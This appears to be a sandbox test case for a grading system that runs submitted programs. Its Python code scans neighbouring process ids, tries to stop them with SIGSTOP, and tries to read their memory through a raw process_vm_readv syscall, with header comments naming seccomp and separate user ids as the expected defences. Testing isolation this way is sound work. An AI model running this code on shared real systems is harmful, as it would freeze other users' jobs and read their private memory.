# attack: find the jobs of other hand-ins, which run beside it, and stop or read them
# earns: 100
# stopped by: few system calls (seccomp); own user id
import ctypes
import os
import signal

from honest import *

libc = ctypes.CDLL(None, use_errno=True)
room = ctypes.create_string_buffer(64)
vector = (ctypes.c_uint64 * 2)(ctypes.addressof(room), 64)
readv = 270 if os.uname().machine == "aarch64" else 310
own = os.getpid()
for pid in range(max(2, own - 2000), own + 200):
    if pid == own:
        continue
    for number in (0, signal.SIGSTOP):
        try:
            os.kill(pid, number)
            print("GOT", pid)
        except OSError:
            pass
    if libc.syscall(readv, pid, vector, 1, vector, 1, 0) >= 0:
        print("GOT the memory of", pid)
